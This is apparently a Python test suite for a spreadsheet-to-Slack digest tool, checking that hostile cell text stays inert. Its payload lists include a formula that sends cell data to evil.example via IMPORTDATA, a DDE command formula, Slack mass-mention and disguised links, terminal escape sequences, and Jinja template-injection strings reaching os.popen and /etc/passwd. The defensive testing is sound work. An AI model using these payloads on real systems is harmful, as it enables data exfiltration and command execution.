"""What careless or hostile people type stays text: no formula, no mention, no control sequence."""

from __future__ import annotations

import json
import re
from contextlib import suppress
from dataclasses import replace
from datetime import date
from pathlib import Path
from typing import Any

import pytest

from mso_sheets import app, pipeline
from mso_sheets.adapters.slack.blocks import render
from mso_sheets.cli import printable
from mso_sheets.digest.plain import terminal
from mso_sheets.errors import ConfigError
from mso_sheets.model.cells import Cell
from mso_sheets.model.message import Message
from tests.chaos.campaign import light_job
from tests.fakes.book import MemoryStore
from tests.fakes.channel import MemoryChannel
from tests.fakes.runs import at, moment_at, options_of, template, world_of
from tests.making import TODAY, snapshot_of

HOSTILE = (
    '=IMPORTDATA("https://evil.example/?"&A1)',
    "+1+cmd|'/C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "<!channel> <!here> <!everyone>",
    "<@U0EVIL> <!subteam^S123>",
    "@channel @here @everyone",
    "<https://evil.example|docs.google.com>",
    "[docs](https://evil.example)",
    "javascript:alert(1)",
    "\x1b[2J\x1b]0;owned\x07red",
    "\u202egnp.exe",
    "{{ 7*7 }} {% for x in [] %} {{ self.__class__ }}",
    "&lt;!channel&gt;",
    "# Heading\n> quote\n- [ ] item",
    "👩‍👩‍👧 " * 50,
    "x" * 5_000,
)


def posted_about(text: str) -> tuple[MemoryStore, Message]:
    """A run over an overdue action with this text, in the hands of an owner with this name."""
    actions: list[list[Cell]] = [
        ["Action ID", "Action", "Owner", "Due date", "Status"],
        ["ACT-0001", text, "Ana", 46118.0, "Open"],
        ["ACT-0002", "Send draft", text, 46118.0, "Open"],
    ]
    people: list[list[Cell]] = [["Name", "Slack ID"], ["Ana", "U0ANA"]]
    store, channel = (
        MemoryStore(snapshot_of({"Actions": actions, "People": people})),
        MemoryChannel(),
    )
    job, now = light_job(), at(TODAY)
    pipeline.run(job, world_of(store, channel, now), moment_at(now), options_of(job))
    return store, channel.posts[0][1]


def links_of(payload: Any) -> list[str]:
    """Every address that Slack would make a link of."""
    whole = json.dumps(payload, ensure_ascii=False)
    assert '"type": "markdown"' not in whole
    assert whole.count('"type": "mrkdwn"') == whole.count('"verbatim": true')
    marked = re.findall(r"<([a-z]+:[^|>]+)", whole)
    return [*marked, *re.findall(r'"url": "([^"]+)"', whole)]


@pytest.mark.parametrize("text", HOSTILE, ids=lambda text: repr(text[:24]))
def test_a_digest_mentions_nobody_and_leads_nowhere_that_a_cell_asks_for(text: str) -> None:
    _, message = posted_about(text)
    payload = render(message).main
    whole = json.dumps(payload, ensure_ascii=False)
    for mark in ("<!channel", "<!here", "<!everyone", "<!subteam", "<@U0EVIL", "<https://evil"):
        assert mark not in whole
    assert all("javascript:" not in link for link in links_of(payload))
    assert all(link.startswith("https://docs.google.com/") for link in links_of(payload))


@pytest.mark.parametrize("text", HOSTILE, ids=lambda text: repr(text[:24]))
def test_a_terminal_obeys_no_cell(text: str) -> None:
    _, message = posted_about(text)
    shown = printable(terminal(message))
    assert all(char.isprintable() or char in "\n\t" for char in shown)


def test_no_cell_of_our_tabs_in_a_file_is_a_formula_that_came_from_people(tmp_path: Path) -> None:
    from openpyxl import Workbook, load_workbook

    made = Workbook()
    sheet = made.active
    assert sheet is not None
    sheet.title = "Actions"
    sheet.append(["Action ID", "Action", "Owner", "Due date", "Status"])
    for number, text in enumerate(text for text in HOSTILE if "\x1b" not in text):
        sheet.append([f"ACT-{number}", "", text[:30], date(2026, 4, 6), "Open"])
        cell = sheet.cell(sheet.max_row, 2, text)
        cell.data_type = "s"
    made.save(tmp_path / "emea.xlsx")
    (tmp_path / "config").mkdir()
    (tmp_path / "config" / "settings.toml").write_text('timezone = "UTC"\n')
    started = app.start(
        {"MSO_SHEETS_HOME": str(tmp_path), "MSO_SHEETS_STATE": str(tmp_path)}, tmp_path
    )
    target = app.target(started, str(tmp_path / "emea.xlsx"))
    record = app.run_job(started, "daily-followups", target, app.Asked(as_of=TODAY))
    assert record.tabs["Follow-ups"] == "written", record.notes
    after = load_workbook(tmp_path / "emea.xlsx")
    cells = [cell for row in after["Follow-ups"].iter_rows() for cell in row]
    assert any("IMPORTDATA" in str(cell.value) for cell in cells)
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []


def test_a_template_in_a_cell_is_not_carried_out() -> None:
    _, message = posted_about("{{ 7*7 }} {{ self }}")
    assert "49" not in json.dumps(render(message).main["blocks"][1:4])
    assert "7\\u00d77" not in terminal(message)


@pytest.mark.parametrize(
    "attack",
    [
        "{{ ''.__class__.__mro__ }}",
        "{{ results.__init__.__globals__ }}",
        "{{ cycler.__init__.__globals__.os }}",
        "{{ lipsum.__globals__['os'].popen('id').read() }}",
        "{% include '/etc/passwd' %}",
        "{% import 'os' as os %}",
        "{{ ''|attr('__class__') }}",
        "{{ settings.__setattr__('mentions', 999) }}",
    ],
)
def test_a_template_reaches_nothing_but_the_report(attack: str) -> None:
    job, now = light_job(), at(TODAY)
    texts = {"followups": template("followups") + f"\n> {attack}\n"}
    options = replace(options_of(job), templates=texts)
    actions: list[list[Cell]] = [["Action ID", "Action", "Owner", "Due date", "Status"],
               ["ACT-1", "Send", "Ana", 46118.0, "Open"]]  # fmt: skip
    store, channel = MemoryStore(snapshot_of({"Actions": actions})), MemoryChannel()
    with suppress(ConfigError):
        pipeline.run(job, world_of(store, channel, now), moment_at(now), options)
    if not channel.posts:
        return
    said = json.dumps(render(channel.posts[0][1]).main)
    assert not any(word in said for word in ("uid=", "root:", "<class", "posix", "module"))
